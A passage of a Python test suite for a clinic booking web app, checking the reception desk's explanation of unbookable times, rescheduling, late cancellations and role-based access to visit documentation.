    picker = desk.client.get(f"/desk/book?patient_id={patient_id}&doctor_id={doctor_id}&date={MONDAY}").text
    form = re.search(r'<form method="get" action="/desk/explain"[^>]*>(.*?)</form>', picker, re.S)
    assert form, "the picker has a why-not form"
    hidden = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', form[1]))
    assert hidden == {"doctor_id": str(doctor_id), "date": MONDAY.isoformat(), "type": "consultation",
                      "patient_id": str(patient_id)}

    answer = desk.client.get("/desk/explain", query_string={**hidden, "time": "10:00"})
    assert answer.status_code == 200
    page = text_of(answer.text)
    assert "10:00 on" in page and "cannot be booked" in page
    assert "Time blocked by doctor" in page and "Training" in page
    assert "Time slot overlaps with another booking" in page and "Ben Ortiz" in page
    assert page.index("Time blocked by doctor") < page.index("Time slot overlaps")  # the rules' order

    free = text_of(desk.client.get("/desk/explain", query_string={**hidden, "time": "09:00"}).text)
    assert "09:00 on" in free and "can be booked" in free and "cannot" not in free
    lunch = text_of(desk.client.get("/desk/explain", query_string={**hidden, "time": "13:00"}).text)
    assert "Outside doctor availability" in lunch and "09:00–13:00, 14:00–18:00" in lunch
    bad = desk.client.get("/desk/explain", query_string={**hidden, "time": "25:00"})
    assert bad.status_code == 400 and "Invalid time format (HH:MM)" in bad.text
    bad = desk.client.get("/desk/explain", query_string={**hidden, "type": "massage", "time": "09:00"})
    assert bad.status_code == 400 and "Invalid appointment type" in bad.text
    assert desk.client.get("/desk/explain").status_code == 200  # the bare form


def test_why_not_on_the_move_picker_asks_for_that_visit_its_length_and_its_own_time_free(desk, booked, make_user,
                                                                                         make_appointment):
    make_appointment(doctor_id=booked.rossi, patient_id=make_user(full_name="Ben Ortiz"), day=MONDAY, hhmm="11:00")
    make_appointment(doctor_id=booked.bianchi, patient_id=booked.ana, day=MONDAY, hhmm="14:00")  # Ana's other visit
    picker = desk.client.get(f"/desk/appointments/{booked.id}/reschedule").text
    form = re.search(r'<form method="get" action="/desk/explain"[^>]*>(.*?)</form>', picker, re.S)
    hidden = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', form[1]))
    assert hidden["appointment_id"] == str(booked.id)
    # 10:15 overlaps only the visit itself: free for it. 10:45 runs into Ben's 11:00.
    free = text_of(desk.client.get("/desk/explain", query_string={**hidden, "time": "10:15"}).text)
    assert "10:15 on" in free and "can be booked" in free and "For moving Ana Torres's visit" in free
    assert "its own time counts as free for the times around it" in free
    back = f'<a href="/desk/appointments/{booked.id}/reschedule?doctor_id={booked.rossi}&amp;date={MONDAY}">'
    assert back in desk.client.get("/desk/explain", query_string={**hidden, "time": "10:15"}).text
    clash = text_of(desk.client.get("/desk/explain", query_string={**hidden, "time": "10:45"}).text)
    assert "cannot be booked" in clash and "Ben Ortiz" in clash
    # The patient's own other visit is in the way too; and its very time changes nothing.
    busy = text_of(desk.client.get("/desk/explain", query_string={**hidden, "time": "14:00"}).text)
    assert "cannot be booked" in busy and "The patient already has a booking at this time" in busy
    own = text_of(desk.client.get("/desk/explain", query_string={**hidden, "time": "10:00"}).text)
    assert "cannot be booked" in own and "This is the visit's own time" in own
    other_patient = text_of(desk.client.get("/desk/explain", query_string={
        "doctor_id": booked.rossi, "date": MONDAY.isoformat(), "time": "10:15"}).text)
    assert "cannot be booked" in other_patient and "of Ana Torres" in other_patient  # for anyone else: taken
    assert desk.client.get("/desk/explain", query_string={**hidden, "appointment_id": "999999",
                                                          "time": "10:15"}).status_code == 404


def test_why_not_on_the_move_picker_keeps_the_reason_typed_for_the_way_back(desk, booked):
    picker = desk.client.get(f"/desk/appointments/{booked.id}/reschedule",
                             query_string={"reason": "Asked by phone & later"}).text
    form = re.search(r'<form method="get" action="/desk/explain"[^>]*>(.*?)</form>', picker, re.S)
    hidden = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', form[1]))
    assert hidden["reason"] == "Asked by phone &amp; later"
    asked = {**hidden, "reason": "Asked by phone & later", "time": "10:15"}
    page = desk.client.get("/desk/explain", query_string=asked).text
    back = re.search(r'<a href="([^"]+)">Back to moving it</a>', page)[1].replace("&amp;", "&")
    again = desk.client.get(back).text  # the move's picker, the reason in its field as typed
    assert re.search(r'<textarea[^>]*id="reason"[^>]*>\s*Asked by phone &amp; later</textarea>', again)
    # Asking about another time from the explainer keeps it too.
    assert '<input type="hidden" name="reason" value="Asked by phone &amp; later">' in page
    too_long = desk.client.get("/desk/explain", query_string={**asked, "reason": "x" * 501})
    assert too_long.status_code == 400 and "at most 500 characters" in too_long.text


def test_the_booking_picker_offers_no_time_that_clashes_with_the_patient_s_visits_and_says_why(
        desk, make_doctor, make_user, make_appointment):
    rossi, bianchi = make_doctor(name="Dr. Laura Rossi"), make_doctor(name="Dr. Marco Bianchi")
    ana = make_user(full_name="Ana Torres")
    make_appointment(doctor_id=bianchi, patient_id=ana, day=MONDAY, hhmm="10:00")
    picker = desk.client.get(f"/desk/book?patient_id={ana}&doctor_id={rossi}&date={MONDAY}").text
    times = desk_slot_times(picker)
    assert {"09:30", "10:30"} <= set(times) and {"09:45", "10:00", "10:15"}.isdisjoint(times)
    form = re.search(r'<form method="get" action="/desk/explain"[^>]*>(.*?)</form>', picker, re.S)
    hidden = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', form[1]))
    why = text_of(desk.client.get("/desk/explain", query_string={**hidden, "time": "10:00"}).text)
    assert "cannot be booked" in why and "The patient already has a booking at this time" in why
    assert "Dr. Marco Bianchi" in why
    not_a_patient = desk.client.get("/desk/explain", query_string={**hidden, "patient_id": desk.id, "time": "10:00"})
    assert not_a_patient.status_code == 400 and "Choose a patient" in not_a_patient.text


def test_a_doctor_s_why_not_is_no_window_on_a_patient_s_other_visits(app, make_doctor, make_user,
                                                                     make_appointment, login_as):
    rossi = make_doctor(name="Dr. Laura Rossi", with_user=True)
    bianchi = make_doctor(name="Dr. Marco Bianchi")
    ana = make_user(full_name="Ana Torres")
    make_appointment(doctor_id=bianchi, patient_id=ana, day=MONDAY, hhmm="10:00")
    with app.app_context():
        doctor = login_as(db.session.get(Doctor, rossi).user_id)
    answer = text_of(doctor.get("/desk/explain", query_string={
        "doctor_id": rossi, "date": MONDAY.isoformat(), "time": "10:00", "patient_id": ana}).text)
    assert "10:00 on" in answer and "can be booked" in answer
    assert "Dr. Marco Bianchi" not in answer and "Ana Torres" not in answer
    # Asked from the move picker of her own visit with Ana: the other visit is in the way, but
    # only as such (not which, when, or with whom).
    own = make_appointment(doctor_id=rossi, patient_id=ana, day=MONDAY, hhmm="09:00")
    moving = text_of(doctor.get("/desk/explain", query_string={
        "doctor_id": rossi, "date": MONDAY.isoformat(), "time": "10:00", "appointment_id": own}).text)
    assert "cannot be booked" in moving and "The patient has another visit at this time" in moving
    assert "Appointment" not in moving and "10:00–10:30" not in moving


def test_why_not_heads_a_clinic_closure_and_a_time_too_soon_as_such(app, desk, make_doctor, make_block, clock):
    clock.set(instant(MONDAY, "12:00"))
    doctor_id = make_doctor()
    make_block(doctor_id=None, start=instant(MONDAY, "14:00"), end=instant(MONDAY, "15:00"), reason="Drill")
    closed = text_of(desk.client.get("/desk/explain", query_string={
        "doctor_id": doctor_id, "date": MONDAY.isoformat(), "time": "14:00"}).text)
    assert "The clinic is closed" in closed and "Time blocked by doctor" not in closed and "Drill" in closed
    earlier = text_of(desk.client.get("/desk/explain", query_string={
        "doctor_id": doctor_id, "date": MONDAY.isoformat(), "time": "10:00"}).text)
    assert "Too soon, or already past" in earlier and "Date must be in the future" not in earlier


def test_why_not_says_the_horizon_as_a_date_people_read_and_no_rule_codes(app, desk, make_doctor, clock):
    clock.set(instant(MONDAY, "12:00"))
    doctor_id = make_doctor()
    far = MONDAY + timedelta(weeks=20)
    page = text_of(desk.client.get("/desk/explain", query_string={
        "doctor_id": doctor_id, "date": far.isoformat(), "time": "09:00"}).text)
    last = MONDAY + timedelta(days=app.config["BOOKING_HORIZON_DAYS"])
    assert f"Bookings open 90 days ahead: up to {last:%a %d %b %Y}" in page
    assert last.isoformat() not in page and "beyond_horizon" not in page


def test_a_doctor_asks_why_not_of_their_own_calendar_only(app, login_as, make_doctor, make_user, make_appointment):
    mine = make_doctor(name="Dr. Laura Rossi", with_user=True)
    theirs = make_doctor(name="Dr. Marco Bianchi", with_user=True)
    make_appointment(doctor_id=theirs, patient_id=make_user(full_name="Ben Ortiz", email="ben@example.com"),
                     day=MONDAY, hhmm="10:00")
    rossi = login_as(doctor_user(app, mine))
    asked = {"doctor_id": theirs, "date": MONDAY.isoformat(), "time": "10:00"}
    page = text_of(rossi.get("/desk/explain", query_string=asked).text)
    assert "Ben Ortiz" not in page and "No active doctor has this id" in page
    form = rossi.get("/desk/explain").text
    assert "Dr. Laura Rossi" in form and "Dr. Marco Bianchi" not in form  # the only calendar to ask about


def test_why_not_is_on_the_reschedule_picker_with_the_visits_type(desk, make_doctor, make_user, make_appointment):
    visit = make_appointment(doctor_id=make_doctor(), patient_id=make_user(), day=MONDAY, hhmm="09:00",
                             appointment_type="therapy", duration=60)
    page = desk.client.get(f"/desk/appointments/{visit}/reschedule").text
    assert 'action="/desk/explain"' in page and 'name="type" value="therapy"' in page


def test_closures_and_time_off_are_on_the_day_list_and_their_clashes_flagged(app, desk, make_doctor, make_user,
                                                                             make_appointment, make_block):
    """A blocked period or closure added over bookings stays visible: listed with its reason, and
    every booking inside flagged on the day list and the detail page until it is moved."""
    rossi, bianchi = make_doctor(name="Dr. Laura Rossi"), make_doctor(name="Dr. Marco Bianchi")
    inside = make_appointment(doctor_id=rossi, patient_id=make_user(full_name="Ana Torres"), day=MONDAY,
                              hhmm="14:30")
    outside = make_appointment(doctor_id=rossi, patient_id=make_user(full_name="Ben Ortiz"), day=MONDAY,
                               hhmm="10:00")
    make_appointment(doctor_id=bianchi, patient_id=make_user(full_name="Cy Closed"), day=MONDAY, hhmm="17:00")
    make_block(doctor_id=rossi, start=instant(MONDAY, "14:00"), end=instant(MONDAY, "16:00"), reason="Training")
    make_block(doctor_id=None, start=instant(MONDAY, "16:30"), end=instant(MONDAY, "18:00"), reason="Fire drill")
    page = desk.client.get(f"/desk/?date={MONDAY}").text
    periods = text_of(page.split('id="periods-heading"')[1].split("</section>")[0])
    assert "Dr. Laura Rossi away: Mon" in periods and "14:00–16:00 (Training)" in periods
    assert "Clinic closed: Mon" in periods and "16:30–18:00 (Fire drill)" in periods
    assert "Time off: Training" in text_of(row_of(page, "Ana Torres"))
    assert "Clinic closed: Fire drill" in text_of(row_of(page, "Cy Closed"))
    assert "Time off" not in text_of(row_of(page, "Ben Ortiz"))
    detail = text_of(desk.client.get(f"/desk/appointments/{inside}").text)
    assert "This visit is inside the doctor's time off" in detail and "Training): move or cancel it." in detail
    assert "move or cancel it" not in text_of(desk.client.get(f"/desk/appointments/{outside}").text)

    moved = desk.client.post(f"/desk/appointments/{inside}/reschedule",
                             data={"doctor_id": rossi, "date": MONDAY.isoformat(), "time": "11:00", "reason": "Away"})
    assert moved.status_code == 303
    assert "Time off" not in text_of(row_of(desk.client.get(f"/desk/?date={MONDAY}").text, "Ana Torres"))
    assert "move or cancel it" not in text_of(desk.client.get(f"/desk/appointments/{inside}").text)


def test_documentation_is_readable_by_doctors_and_admins_and_written_next_to_earlier_visits(
        app, desk, staff, login_as, pending_world):
    """The detail page shows the text (to doctors and admins; reception sees that it was written)
    and its history; the form shows the patient's earlier visits, their notes and documentation."""
    rossi = login_as(doctor_user(app, pending_world.rossi))
    form = rossi.get(f"/desk/appointments/{pending_world.documented}/documentation").text
    assert 'rows="14"' in form
    earlier = text_of(form.split('id="earlier-heading"')[1])
    assert "Dr. Marco Bianchi" in earlier  # an earlier visit with another doctor, for continuity
    assert "Not documented." in earlier
    assert rossi.post(f"/desk/appointments/{pending_world.oldest}/documentation",
                      data={"text": "Sprained ankle; rest."}).status_code == 303
    later = text_of(rossi.get(f"/desk/appointments/{pending_world.yesterday}/documentation").text)
    assert "Sprained ankle; rest." in later.split("Earlier visits of Ana Torres")[1]

    admin = login_as(staff("admin"))
    for reader, can_read in ((rossi, True), (admin, True), (desk.client, False)):
        page = text_of(reader.get(f"/desk/appointments/{pending_world.oldest}").text)
        assert ("Sprained ankle; rest." in page) is can_read
        assert "Documentation written" in page  # the history says who and when, to everyone


def test_a_typed_reason_survives_changing_the_day_on_the_reschedule_page(app, desk, make_doctor, make_user,
                                                                         make_appointment):
    doctor_id = make_doctor()
    visit = make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Ana Torres"), day=MONDAY,
                             hhmm="09:00")
    tuesday = MONDAY + timedelta(days=1)
    # The reason is a field of the picker's GET form: showing another day's times sends it along.
    shown = desk.client.get(f"/desk/appointments/{visit}/reschedule",
                            query_string={"doctor_id": doctor_id, "date": tuesday.isoformat(),
                                          "reason": "Patient asked by phone"})
    assert shown.status_code == 200
    assert "Patient asked by phone</textarea>" in shown.text
    assert f"{tuesday:%A %d %B %Y} " in text_of(shown.text) and "with Dr. Laura Rossi" in text_of(shown.text)
    assert "10:00" in desk_slot_times(shown.text)
    confirm = desk.client.get(f"/desk/appointments/{visit}/reschedule",
                              query_string={"doctor_id": doctor_id, "date": tuesday.isoformat(), "time": "10:00",
                                            "reason": "Patient asked by phone"})
    assert confirm.status_code == 200 and "Patient asked by phone</textarea>" in confirm.text
    assert get(app, Appointment, visit).starts_at == instant(MONDAY, "09:00") and history(app, visit) == []
    moved = desk.client.post(f"/desk/appointments/{visit}/reschedule",
                             data={"doctor_id": doctor_id, "date": tuesday.isoformat(), "time": "10:00",
                                   "reason": "Patient asked by phone"})
    assert moved.status_code == 303 and get(app, Appointment, visit).starts_at == instant(tuesday, "10:00")


def test_staff_may_cancel_inside_the_cutoff_and_it_is_recorded_as_late(app, desk, booked, clock):
    clock.set(instant(MONDAY, "10:00") - timedelta(hours=2))
    response = desk.client.post(f"/desk/appointments/{booked.id}/cancel",
                                data={"reason": "patient_called", "note": "Flu"})
    assert response.status_code == 303
    cancelled = get(app, Appointment, booked.id)
    assert (cancelled.status, cancelled.late_cancellation) == (CANCELLED, True)
    detail = text_of(desk.client.get(f"/desk/appointments/{booked.id}").text)
    assert "Cancelled because Patient called: Flu Late cancellation" in detail
    exported = desk.client.get(f"/desk/day.csv?date={MONDAY}").text
    assert "Patient called: Flu (late)" in exported


def test_a_time_chosen_before_the_patient_is_said_as_people_read_it(desk, make_doctor):
    doctor_id = make_doctor(name="Dr. Laura Rossi")
    page = text_of(desk.client.get("/desk/book", query_string={
        "doctor_id": doctor_id, "date": MONDAY.isoformat(), "time": "15:15"}).text)
    assert (f"Booking 15:15 on {MONDAY:%A %d %B %Y} with Dr. Laura Rossi: first find the patient." in page)
    for odd in ({"date": "not-a-day", "time": "15:15"}, {"date": MONDAY.isoformat(), "time": "call 555-0000"}):
        page = desk.client.get("/desk/book", query_string=odd)
        assert page.status_code == 200 and "first find the patient" not in page.text


def test_a_cancelled_visit_s_page_offers_no_reminder_switch_nor_documentation(desk, booked, make_appointment):
    before = desk.client.get(f"/desk/appointments/{booked.id}").text
    assert "Turn reminders off" in before and "Not yet written" in before
    cancelled = desk.client.post(f"/desk/appointments/{booked.id}/cancel", data={"reason": "patient_called"},
                                 follow_redirects=True).text
    assert "Cancelled because" in cancelled
    assert "Turn reminders off" not in cancelled and "Not yet written" not in cancelled
